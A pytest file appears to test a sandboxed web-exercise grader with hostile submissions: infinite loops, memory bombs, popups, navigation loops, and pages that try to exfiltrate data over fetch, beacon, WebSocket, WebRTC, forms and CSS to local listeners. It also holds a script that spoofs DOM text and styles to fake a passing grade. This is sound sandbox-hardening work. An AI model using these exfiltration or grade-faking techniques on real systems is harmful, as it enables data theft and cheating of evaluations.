"""Whatever a submission does, the grader ends it cleanly within the deadline and grades the next one.

Each case is a submission that attacks the grader: loops that never end, memory bombs, dialogs,
navigation, popups, attempts to send data out of the sandbox, and pages that try to fake a pass.
Each must come back as a clean "fail" or "error" in time, and a correct submission graded right
after it must pass. The exfiltration cases aim at listeners this test runs on 127.0.0.1 (HTTP and
UDP) and assert that nothing ever reaches them.
"""

from __future__ import annotations

import socket
import threading
import time
import urllib.request
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace

import pytest

from sandbox.grading.runner import Grader, Submission
from sandbox.grading.worker import Worker
from tests.support.check_cases import assert_plain, problems
from tests.support.grading import DEADLINE_S, LOAD_MS, page

CHECKS = [
    {"id": "answer", "expect": {"locator": "#answer", "text": "42"}},
    {"id": "counts", "do": [{"click": "#go"}], "expect": {"locator": "#answer", "text": "43"}},
    {"id": "fits", "expect": {"page": "no-horizontal-scroll"}},
]
CORRECT = page(
    '<p id="answer">42</p><button id="go">go</button>',
    css="#answer { color: rgb(255, 0, 0); }",
    js="const answer = document.getElementById('answer');\n"
    "document.getElementById('go').onclick = () => { answer.textContent = 43; };",
)
TARGET = '<p id="answer">41</p><button id="go">go</button>'  # what hostile pages show: fails `answer`


class Listener:
    """Everything that reaches 127.0.0.1 on our ports: HTTP (any TCP connection) and UDP packets."""

    def __init__(self):
        self.hits: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's naming
                listener.hits.append(f"{self.command} {self.path}")
                self.close_connection = True  # one connection per request: none is left to reuse
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(b"ok")

            do_POST = do_PUT = do_OPTIONS = do_HEAD = do_GET

            def log_message(self, *args):
                pass

        class Server(ThreadingHTTPServer):
            daemon_threads = True

            def verify_request(self, request, client_address):
                listener.hits.append(f"tcp from {client_address}")
                return True

        self.http = Server(("127.0.0.1", 0), Handler)
        self.port = self.http.server_address[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.udp_port = self.udp.getsockname()[1]
        self.running = True
        self.threads = [
            threading.Thread(target=self.http.serve_forever, daemon=True),
            threading.Thread(target=self._receive_udp, daemon=True),
        ]
        for thread in self.threads:
            thread.start()

    def _receive_udp(self):
        while self.running:
            try:
                _data, source = self.udp.recvfrom(65536)
            except OSError:
                continue
            self.hits.append(f"udp from {source}")

    def close(self):
        self.running = False
        self.http.shutdown()
        self.http.server_close()
        self.udp.close()


# A page stuck for good (a loop, a promise that never settles) is ended by the deadline whatever it
# is: a grader with a shorter one shows the same, without each case spending a core for 6 s.
STUCK_DEADLINE_S = 3


@pytest.fixture(scope="module")
def stuck_grader():
    grader = Grader(workers=2, deadline_s=STUCK_DEADLINE_S, load_ms=LOAD_MS)
    yield grader
    grader.close()


@pytest.fixture(scope="module")
def listener():
    listener = Listener()
    # The listeners work: a request and a packet from here arrive.
    urllib.request.urlopen(f"http://127.0.0.1:{listener.port}/", timeout=5).read()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.sendto(b"probe", ("127.0.0.1", listener.udp_port))
    deadline = time.monotonic() + 2
    while len(listener.hits) < 3 and time.monotonic() < deadline:
        time.sleep(0.01)
    assert len(listener.hits) == 3, listener.hits  # a connection, its request, a packet
    listener.hits.clear()
    yield listener
    listener.close()


@dataclass
class Hostile:
    id: str
    files: dict[str, str]
    outcome: tuple[str, ...] = ("fail", "error")
    says: str | None = None  # words the result's message must contain (status error)
    wait_ms: int = 0  # a check that waits this long first, so timers and network attempts get their chance
    pause_s: float = 0  # how long the grader stays idle before the next submission
    checks: list[dict] | None = None  # the exercise's checks, when not CHECKS
    stuck: bool = False  # the page never answers: only the deadline ends it (stuck_grader's shorter one)

    def __str__(self) -> str:
        return self.id


def targets(port: int) -> list[str]:
    """Where exfiltration is aimed: the listener by IP, by the name localhost."""
    return [f"http://127.0.0.1:{port}", f"http://localhost:{port}"]


def exfiltration(kind: str, port: int, udp_port: int) -> dict[str, str]:
    """A page that tries to send data to the listener in one way, to every target."""
    urls = targets(port)
    js = head = body = ""
    if kind == "fetch":
        js = "".join(
            f"fetch('{u}/fetch?secret=1', {{method: 'POST', mode: 'no-cors', body: 'secret'}})"
            ".catch(() => {});"
            for u in urls
        )
    elif kind == "image":
        js = "".join(f"new Image().src = '{u}/image?secret=1';" for u in urls)
        body = "".join(f'<img src="{u}/img-tag.png">' for u in urls)
    elif kind == "beacon":
        js = "".join(f"navigator.sendBeacon('{u}/beacon', 'secret');" for u in urls) + (
            "addEventListener('pagehide', () => {"
            + "".join(f"navigator.sendBeacon('{u}/beacon-on-leave', 'secret');" for u in urls)
            + "});"
        )
    elif kind == "prefetch":
        head = "".join(
            f'<link rel="prefetch" href="{u}/prefetch"><link rel="preload" as="script" href="{u}/preload.js">'
            f'<link rel="preconnect" href="{u}"><link rel="dns-prefetch" href="{u}">'
            for u in urls
        )
    elif kind == "websocket":
        js = "".join(
            f"try {{ new WebSocket('{u.replace('http', 'ws')}/socket'); }} catch (e) {{}}" for u in urls
        )
    elif kind == "webrtc":
        js = f"""
          const pc = new RTCPeerConnection({{iceServers: [
            {{urls: "stun:127.0.0.1:{udp_port}"}},
            {{urls: "stun:localhost:{udp_port}"}},
            {{urls: "turn:127.0.0.1:{port}?transport=tcp", username: "u", credential: "p"}},
            {{urls: "turn:127.0.0.1:{udp_port}?transport=udp", username: "u", credential: "p"}},
          ]}});
          pc.createDataChannel("secret");
          pc.createOffer().then((offer) => pc.setLocalDescription(offer)).catch(() => {{}});
        """
    elif kind == "form":
        body = "".join(
            f'<form method="post" action="{u}/form" target="_self"><input name="secret" value="1"></form>'
            for u in urls[:1]
        )
        js = "document.forms[0].submit();"
    elif kind == "form-get-by-name":
        body = f'<form action="{urls[1]}/form"><input name="secret" value="1"></form>'
        js = "document.forms[0].submit();"
    elif kind == "iframe":
        body = "".join(f'<iframe src="{u}/frame"></iframe>' for u in urls)
    elif kind == "popup":
        js = "".join(f"window.open('{u}/popup');" for u in urls)
    elif kind == "navigation":
        js = f"setTimeout(() => {{ location.href = '{urls[0]}/navigate?secret=1'; }}, 50);"
    elif kind == "css":
        head = (
            f"<style>@import url('{urls[0]}/import.css');"
            f" body {{ background: url('{urls[1]}/bg.png'); }}</style>"
        )
    elif kind == "worker":
        source = "".join(f"fetch('{u}/worker').catch(() => {{}});" for u in urls)
        js = f"new Worker(URL.createObjectURL(new Blob([\"{source}\"], {{type: 'text/javascript'}})));"
    elif kind == "event-source":
        js = "".join(f"new EventSource('{u}/events');" for u in urls)
    else:
        raise ValueError(kind)
    return page(TARGET + body, head=head, js=js)


EXFILTRATION = [
    "fetch",
    "image",
    "beacon",
    "prefetch",
    "websocket",
    "webrtc",
    "form",
    "form-get-by-name",
    "iframe",
    "popup",
    "navigation",
    "css",
    "worker",
    "event-source",
]

DOM_BOMB_GROWING = """
function grow() {
  for (let i = 0; i < 100000; i++) {
    const box = document.createElement("div");
    box.append(document.createElement("span"), document.createElement("b"));
    document.body.append(box);
  }
  setTimeout(grow, 0);
}
addEventListener("load", () => setTimeout(grow, 0));
"""

FAKE_PASS = """
// Make every text read "42" and every colour red, for anyone who asks from the page's own world.
Object.defineProperty(Node.prototype, "textContent", { get() { return "42"; }, configurable: true });
Object.defineProperty(HTMLElement.prototype, "innerText", { get() { return "42"; }, configurable: true });
const realStyle = window.getComputedStyle;
window.getComputedStyle = (element, pseudo) => {
  const style = realStyle(element, pseudo);
  const red = (name) => (name === "color" ? "rgb(255, 0, 0)" : style.getPropertyValue(name));
  return new Proxy(style, {
    get: (target, key) => (key === "color" ? "rgb(255, 0, 0)" : key === "getPropertyValue" ? red :
      typeof target[key] === "function" ? target[key].bind(target) : target[key]),
  });
};
document.getElementById("go").onclick = () => {};
"""

HOSTILE = [
    Hostile(
        "loop-inline",
        page(TARGET + "<script>while (true) {}</script>"),
        ("error",),
        "did not finish in time",
        stuck=True,
    ),
    Hostile(
        "loop-in-onload",
        page(TARGET, js="window.onload = () => { while (true) {} };"),
        ("error",),
        stuck=True,
    ),
    Hostile(
        "loop-after-load",
        page(TARGET, js="setTimeout(() => { while (true) {} }, 100);"),
        ("error",),
        stuck=True,
    ),
    # Loops that start once the grade is over, while the grader waits: the next submission must not suffer.
    Hostile(
        "loop-after-grading", page(TARGET, js="setTimeout(() => { while (true) {} }, 600);"), pause_s=0.8
    ),
    Hostile(
        "loop-after-grading-idle", page(TARGET, js="setTimeout(() => { while (true) {} }, 600);"), pause_s=2.5
    ),
    Hostile(
        "loop-in-click-handler",
        page(TARGET, js="document.getElementById('go').onclick = () => { while (true) {} };"),
        ("error",),
        "stopped responding",
    ),
    Hostile(
        "loop-in-async-handler",
        page(
            TARGET, js="document.getElementById('go').onclick = () => setTimeout(() => { for (;;) {} }, 0);"
        ),
        # The loop starts a moment after the click: the check may read the page first (a clean
        # fail) or find it stuck (an error). Either is a clean end; the next submission must pass.
        ("fail", "error"),
        stuck=True,
    ),
    Hostile(
        "memory-js-heap",
        page(TARGET, js="const keep = []; while (true) keep.push(new Array(100000).fill(Math.random()));"),
        ("error",),
        "memory",
    ),
    Hostile(
        "memory-array-buffers",
        page(TARGET, js="const keep = []; while (true) keep.push(new Uint8Array(50e6).fill(1));"),
        ("error",),
        "memory",
    ),
    Hostile(
        "memory-dom-nodes",
        page(TARGET, js="while (true) document.body.appendChild(document.createElement('div'));"),
        ("error",),
    ),
    Hostile("memory-dom-nodes-growing", page(TARGET, js=DOM_BOMB_GROWING), ("error",), wait_ms=5000),
    Hostile(
        "memory-canvas",
        page(
            TARGET,
            js="setInterval(() => { const c = document.createElement('canvas'); c.width = c.height = 2048;"
            " c.getContext('2d').fillRect(0, 0, 2048, 2048); document.body.append(c); }, 5);",
        ),
        ("error",),
        "memory",
        wait_ms=5000,
    ),
    Hostile("alert-loop", page(TARGET, js="while (true) alert(1);"), ("error",), stuck=True),
    Hostile("dialogs", page(TARGET, js="alert(1); confirm('sure?'); prompt('name?'); print();")),
    Hostile(
        "leave-page-question",
        page(
            TARGET, js="addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = ''; });"
        ),
    ),
    Hostile(
        "navigate-away",
        page(TARGET, js="location.href = 'http://example.com/';"),
        ("error",),
        "keeps reloading the page or leaving it",
    ),
    Hostile(
        "navigate-away-later",
        page(TARGET, js="setTimeout(() => { location.href = 'http://example.com/'; }, 20);"),
        ("error",),
        "keeps reloading the page or leaving it",
    ),
    Hostile(
        "form-posting-into-a-frame",
        page(
            TARGET
            + '<iframe name="out"></iframe><form action="http://example.com/" target="out" method="post">'
            '<input name="a"></form>',
            js="document.forms[0].submit();",
        ),
    ),
    Hostile("reload-loop", page(TARGET, js="location.reload();"), stuck=True),
    Hostile("reload-loop-after-load", page(TARGET, js="setTimeout(() => location.reload(), 10);")),
    Hostile("popups", page(TARGET, js="for (let i = 0; i < 30; i++) window.open('about:blank');")),
    Hostile(
        "popup-of-itself",
        page(TARGET, js="if (!opener) for (let i = 0; i < 5; i++) window.open(location.href);"),
    ),
    Hostile(
        "fake-pass",
        page(TARGET, js=FAKE_PASS),
        ("fail",),
        checks=[
            {"id": "text", "expect": {"locator": "#answer", "text": "42"}},
            {"id": "contains", "expect": {"locator": "#answer", "contains": "42"}},
            {"id": "css", "expect": {"locator": "#answer", "css": {"color": "rgb(255, 0, 0)"}}},
        ],
    ),
    Hostile(
        "promise-that-never-settles",  # a JavaScript check awaits the app, which never answers
        page(TARGET, js="window.total = () => new Promise(() => {});"),
        ("error",),
        "did not finish in time",
        checks=[{"id": "total", "js": "return (await total()) === 42;"}],
        stuck=True,
    ),
]


# Starting a browser in place of one a previous case left killed is the grader's time, not the app's:
# it is not charged to the deadline, and a busy machine may need this long for it.
STARTUP_ALLOWANCE_S = 4.0


def assert_clean(result, outcome, says, elapsed, deadline_s=DEADLINE_S):
    assert result.status in outcome, (result.status, result.message, problems(result))
    assert elapsed <= deadline_s + 0.5 + STARTUP_ALLOWANCE_S, f"took {elapsed:.1f} s"
    assert result.duration_ms <= (deadline_s + STARTUP_ALLOWANCE_S) * 1000, result.duration_ms
    assert {c.status for c in result.checks} <= {"pass", "fail", "error", "skipped"}
    if result.status == "error":
        assert_plain(result.message)
    if says:
        assert says in (result.message or ""), result.message


def assert_grader_still_works(grader, exercise):
    """Two correct submissions at once: whichever worker had the hostile one grades one of them."""
    started = time.monotonic()
    results = grader.grade_many([Submission(exercise, "only", CORRECT)] * 2)
    assert [(r.status, r.message, problems(r)) for r in results] == [("pass", None, [])] * 2
    # Within one deadline: a stuck page may have to be replaced first (a new renderer), and this
    # machine may be busy, so no tighter bound is asserted here; bench/grading.py measures speed.
    assert time.monotonic() - started < DEADLINE_S


# Hostile pages race the grader's clocks (a loop that starts 600 ms after load, a renderer killed at
# the deadline); on a machine busy with other work a case can land on the other side of a boundary.
# A rerun tells a timing accident from a real escape: a real one fails every time.
@pytest.mark.flaky(reruns=2)
@pytest.mark.parametrize("case", HOSTILE, ids=str)
def test_hostile_submission_ends_cleanly_and_the_next_one_passes(case, make_exercise, grader, stuck_grader):
    checks = case.checks or CHECKS
    if case.wait_ms:
        checks = [
            {"id": "waits", "do": [{"wait": case.wait_ms}], "expect": {"locator": "#answer", "text": "42"}}
        ]
    exercise = make_exercise(checks, solution=CORRECT)
    grader = stuck_grader if case.stuck else grader

    started = time.monotonic()
    result = grader.grade(Submission(exercise, "only", case.files))

    assert_clean(result, case.outcome, case.says, time.monotonic() - started, grader.deadline_s)
    if case.id == "fake-pass":  # every check saw the real page, not the app's fake
        assert [c.status for c in result.checks] == ["fail", "fail", "fail"]
    time.sleep(case.pause_s)
    assert_grader_still_works(grader, make_exercise(CHECKS, solution=CORRECT))


@pytest.mark.parametrize("kind", EXFILTRATION)
def test_nothing_leaves_the_sandbox(kind, make_exercise, grader, listener):
    exercise = make_exercise(
        [{"id": "waits", "do": [{"wait": 800}], "expect": {"locator": "#answer", "text": "42"}}],
        solution=CORRECT,
    )
    listener.hits.clear()

    started = time.monotonic()
    result = grader.grade(Submission(exercise, "only", exfiltration(kind, listener.port, listener.udp_port)))

    assert_clean(result, ("fail", "error"), None, time.monotonic() - started)
    # Leaving the page sends whatever waits for it to unload.
    assert_grader_still_works(grader, make_exercise(CHECKS, solution=CORRECT))
    time.sleep(0.3)
    assert listener.hits == []


def test_memory_ceiling_stops_a_page_the_js_heap_limit_does_not(make_exercise, caplog):
    """DOM nodes live outside V8's heap: only the watchdog's ceiling on the renderer's memory stops them.

    A grader of its own with a low ceiling and a long deadline, so that even on a busy machine the page
    reaches the ceiling first (it takes a second or two on an idle one).
    """
    grader = Grader(workers=1, deadline_s=20, load_ms=2500, memory_mb=200)
    try:
        exercise = make_exercise(
            [{"id": "waits", "do": [{"wait": 5000}] * 3, "expect": {"locator": "#answer", "text": "42"}}],
            solution=CORRECT,
        )
        result = grader.grade(Submission(exercise, "only", page(TARGET, js=DOM_BOMB_GROWING)))

        assert (result.status, result.checks[0].status) == ("error", "error")
        assert "memory" in result.message
        assert "went over 200 MB" in caplog.text  # the watchdog stopped it, not V8
        assert result.duration_ms < 20_000
        assert problems(grader.grade(Submission(make_exercise(CHECKS), "only", CORRECT))) == []
    finally:
        grader.close()


def test_popups_are_closed_at_once(make_exercise, grade):
    exercise = make_exercise(
        [
            {
                "id": "popup-closed",
                "js": """
                  const popup = window.open("about:blank");
                  const tick = () => new Promise((done) => setTimeout(done, 10));
                  for (let i = 0; i < 100 && !popup.closed; i++) await tick();
                  return popup.closed;
                """,
            }
        ]
    )

    assert problems(grade(exercise, page("<p>hi</p>"))) == []


def test_dialogs_are_dismissed(make_exercise, grade):
    exercise = make_exercise(
        [
            {
                "id": "dismissed",
                "js": "alert('hi'); return confirm('sure?') === false && prompt('name?') === null;",
            }
        ]
    )

    assert problems(grade(exercise, page("<p>hi</p>"))) == []


def test_a_page_that_reloads_itself_does_not_mark_the_next_learners_app(make_exercise):
    """Fairness between learners: a page that keeps reloading after its job ended must not make the
    next submission on the same worker look as if it left its page.

    One worker, so every submission lands on it: each hostile page goes on reloading after its
    result, and its last reloads race the next submission's load (late navigation events of the old
    origin arrive while the new one loads).
    """
    hostile = page(TARGET, js="setTimeout(() => location.reload(), 10);")
    exercise = make_exercise(CHECKS, solution=CORRECT)
    grader = Grader(workers=1, deadline_s=DEADLINE_S)
    try:
        verdicts = []
        for _round in range(6):
            grader.grade(Submission(exercise, "only", hostile))
            result = grader.grade(Submission(exercise, "only", CORRECT))
            verdicts.append((result.status, result.message))
    finally:
        grader.close()
    assert verdicts == [("pass", None)] * 6


@pytest.mark.parametrize(
    ("url", "left"),
    [
        ("http://s1-4.grader.test/index.html", False),  # a late reload of the submission before
        ("http://s1-5.grader.test/index.html", False),  # its own origin: a reload
        ("http://s2-4.grader.test/index.html", True),  # another worker's origin: somewhere else
        ("http://s1-6.grader.test/index.html", True),  # not yet handed out: somewhere else
        ("http://s1-4.grader.test.evil.example/", True),
        ("chrome-error://chromewebdata/", True),  # a navigation the lockdown refused
        ("https://example.com/", True),
    ],
)
def test_only_a_navigation_of_the_current_submission_counts_as_leaving(url, left):
    """The rule behind the test above, without its race: an event naming an earlier submission's
    origin is late news of that submission, whatever moment it arrives at."""
    worker = Worker(grader=None, number=1)
    worker.loads = 5
    worker.origin = "http://s1-5.grader.test"
    worker.on_navigated(SimpleNamespace(parent_frame=None, url=url))
    assert worker.left is left
